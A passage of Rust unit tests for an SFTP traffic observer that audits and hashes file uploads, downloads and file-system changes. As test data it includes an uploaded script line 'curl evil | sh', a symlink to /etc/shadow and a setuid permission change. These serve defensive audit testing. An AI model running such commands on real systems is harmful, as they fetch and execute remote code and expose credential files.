        o.client(&packet(FXP_OPEN, &body(&[&1u32.to_be_bytes(), &s(b"/up.sh"), &0x1au32.to_be_bytes(), &[0; 4]])));
        o.server(&packet(FXP_HANDLE, &body(&[&1u32.to_be_bytes(), &s(b"h")])));
        let mut w = body(&[&2u32.to_be_bytes(), &s(b"h"), &0u64.to_be_bytes(), &0u32.to_be_bytes()]);
        w.extend_from_slice(b"echo hello\n");
        o.client(&packet(FXP_WRITE, &w));
        let real = b"curl evil | sh\n";
        o.client(&packet(FXP_WRITE, &body(&[&3u32.to_be_bytes(), &s(b"h"), &0u64.to_be_bytes(), &s(real)])));
        let ops = o.client(&packet(FXP_CLOSE, &body(&[&4u32.to_be_bytes(), &s(b"h")])));
        let sha = Some(hex::encode(Sha256::digest(real)));
        assert_eq!(ops, vec![FileOp::Upload { path: "/up.sh".into(), bytes: real.len() as u64, sha256: sha }]);
    }

    /// A reply answers the oldest request with its id whatever its kind: a READ's STATUS (EOF) is
    /// not an OPEN's failure, so the OPEN's handle is tracked under its own path and the next
    /// READ's DATA is that file's, not the stale READ's (red15: a download audited as a decoy).
    #[test]
    fn replies_answer_requests_in_order_across_kinds() {
        let mut o = SftpObserver::default();
        let open = |id: u32, path: &[u8]| {
            packet(FXP_OPEN, &body(&[&id.to_be_bytes(), &s(path), &1u32.to_be_bytes(), &[0; 4]]))
        };
        let read = |id: u32, h: &[u8]| {
            packet(FXP_READ, &body(&[&id.to_be_bytes(), &s(h), &0u64.to_be_bytes(), &4096u32.to_be_bytes()]))
        };
        o.client(&open(1, b"/decoy"));
        o.server(&packet(FXP_HANDLE, &body(&[&1u32.to_be_bytes(), &s(b"d")])));
        o.client(&[read(7, b"d"), open(7, b"/secret")].concat());
        o.server(&packet(FXP_STATUS, &body(&[&7u32.to_be_bytes(), &1u32.to_be_bytes()])));
        o.server(&packet(FXP_HANDLE, &body(&[&7u32.to_be_bytes(), &s(b"s")])));
        o.client(&read(7, b"s"));
        o.server(&packet(FXP_DATA, &body(&[&7u32.to_be_bytes(), &s(b"the secret")])));
        // A directory's HANDLE (OPENDIR, not tracked) is not taken for a file's either.
        o.client(&[packet(11, &body(&[&8u32.to_be_bytes(), &s(b"/etc")])), open(8, b"/other")].concat());
        o.server(&packet(FXP_HANDLE, &body(&[&8u32.to_be_bytes(), &s(b"dir")])));
        o.server(&packet(FXP_HANDLE, &body(&[&8u32.to_be_bytes(), &s(b"o")])));
        let sha = |d: &[u8]| Some(hex::encode(Sha256::digest(d)));
        assert_eq!(
            o.finish(),
            vec![
                FileOp::Download { path: "/decoy".into(), bytes: 0, sha256: sha(b"") },
                FileOp::Download { path: "/other".into(), bytes: 0, sha256: sha(b"") },
                FileOp::Download { path: "/secret".into(), bytes: 10, sha256: sha(b"the secret") },
            ]
        );
    }

    /// Past the bound on waiting requests the observer gives up matching replies: nothing more is
    /// hashed or left out of a recording (a DATA it cannot place is kept), and memory stays put.
    #[test]
    fn too_many_waiting_requests_stop_matching_not_recording() {
        let mut o = SftpObserver::default();
        o.client(&packet(FXP_OPEN, &body(&[&1u32.to_be_bytes(), &s(b"/f"), &1u32.to_be_bytes(), &[0; 4]])));
        o.server(&packet(FXP_HANDLE, &body(&[&1u32.to_be_bytes(), &s(b"h")])));
        let stat = |id: u32| packet(17, &body(&[&id.to_be_bytes(), &s(b"/")]));
        let flood: Vec<u8> = (0..MAX_OUTSTANDING as u32 + 1).flat_map(|i| stat(1000 + i)).collect();
        o.client(&flood);
        assert!(o.lost && o.outstanding.is_empty());
        o.client(&packet(FXP_READ, &body(&[&2u32.to_be_bytes(), &s(b"h"), &0u64.to_be_bytes(), &9u32.to_be_bytes()])));
        let (_, masks) = o.server_masked(&packet(FXP_DATA, &body(&[&2u32.to_be_bytes(), &s(b"read data")])));
        assert!(masks.is_empty(), "a reply the observer cannot place is kept");
    }

    /// A request of an unknown kind gets no reply from OpenSSH: queued, it would take the reply of
    /// the next request with its id and shift every later one (a HANDLE taken for an earlier
    /// OPEN's path). The observer stops matching instead.
    #[test]
    fn an_unknown_request_kind_stops_matching() {
        let mut o = SftpObserver::default();
        let open = |id: u32, path: &[u8]| {
            packet(FXP_OPEN, &body(&[&id.to_be_bytes(), &s(path), &1u32.to_be_bytes(), &[0; 4]]))
        };
        o.client(&[packet(50, &7u32.to_be_bytes()), open(7, b"/missing"), open(7, b"/secret")].concat());
        o.server(&packet(FXP_STATUS, &body(&[&7u32.to_be_bytes(), &2u32.to_be_bytes()])));
        o.server(&packet(FXP_HANDLE, &body(&[&7u32.to_be_bytes(), &s(b"s")])));
        assert!(o.finish().is_empty(), "no file is named after a reply it did not get");
    }

    #[test]
    fn every_change_to_files_is_reported() {
        let mut o = SftpObserver::default();
        let ext = |id: u32, name: &[u8], rest: &[&[u8]]| {
            let mut parts: Vec<&[u8]> = Vec::new();
            let idb = id.to_be_bytes();
            let nm = s(name);
            parts.push(&idb);
            parts.push(&nm);
            parts.extend_from_slice(rest);
            packet(FXP_EXTENDED, &body(&parts))
        };
        let ok = |id: u32| packet(FXP_STATUS, &body(&[&id.to_be_bytes(), &0u32.to_be_bytes()]));
        o.client(&ext(1, b"posix-rename@openssh.com", &[&s(b"/a"), &s(b"/b")]));
        o.client(&ext(2, b"hardlink@openssh.com", &[&s(b"/b"), &s(b"/c")]));
        o.client(&packet(FXP_SYMLINK, &body(&[&3u32.to_be_bytes(), &s(b"/etc/shadow"), &s(b"/tmp/l")])));
        let attrs = [4u32.to_be_bytes(), 0o4755u32.to_be_bytes()].concat();
        o.client(&packet(FXP_SETSTAT, &body(&[&4u32.to_be_bytes(), &s(b"/tmp/x"), &attrs])));
        o.client(&ext(5, b"statvfs@openssh.com", &[&s(b"/")]));
        o.client(&ext(6, b"evil@example.com", &[]));
        let ops: Vec<FileOp> = (1..=6).flat_map(|i| o.server(&ok(i))).collect();
        assert_eq!(
            ops,
            vec![
                FileOp::Rename { from: "/a".into(), to: "/b".into(), how: "posix-rename", ok: true },
                FileOp::Hardlink { from: "/b".into(), to: "/c".into(), ok: true },
                FileOp::Symlink { target: "/etc/shadow".into(), link: "/tmp/l".into(), ok: true },
                FileOp::Setstat {
                    path: "/tmp/x".into(),
                    attrs: Attrs { mode: Some(0o4755), ..Default::default() },
                    ok: true
                },
                FileOp::Extended { request: "evil@example.com".into(), ok: true },
            ]
        );
        assert_eq!(ops[3].to_json()["attrs"]["mode"], "4755");
    }

    #[test]
    fn path_operations_report_status() {
        let req = packet(FXP_RENAME, &body(&[&9u32.to_be_bytes(), &s(b"a"), &s(b"b")]));
        let mut o = SftpObserver::default();
        assert!(both(&req, |o, d| o.client(d)).is_empty());
        o.client(&req);
        let status = packet(FXP_STATUS, &body(&[&9u32.to_be_bytes(), &0u32.to_be_bytes()]));
        assert_eq!(
            o.server(&status),
            vec![FileOp::Rename { from: "a".into(), to: "b".into(), how: "rename", ok: true }]
        );
        o.client(&packet(FXP_REMOVE, &body(&[&10u32.to_be_bytes(), &s(b"x")])));
        let failed = packet(FXP_STATUS, &body(&[&10u32.to_be_bytes(), &2u32.to_be_bytes()]));
        assert_eq!(o.server(&failed), vec![FileOp::Remove { path: "x".into(), ok: false }]);
    }

    #[test]
    fn garbage_and_huge_packets_do_not_panic() {
        let mut o = SftpObserver::default();
        o.client(&[0xff; 10_000]);
        o.server(&[0, 0, 0, 0, 0, 0, 0]);
        o.client(&packet(FXP_OPEN, &[1, 2]));
        let mut huge = (u32::MAX).to_be_bytes().to_vec();
        huge.push(FXP_OPEN);
        o.client(&huge);
        o.client(&[0; 100]);
        assert!(o.finish().is_empty());
    }
}
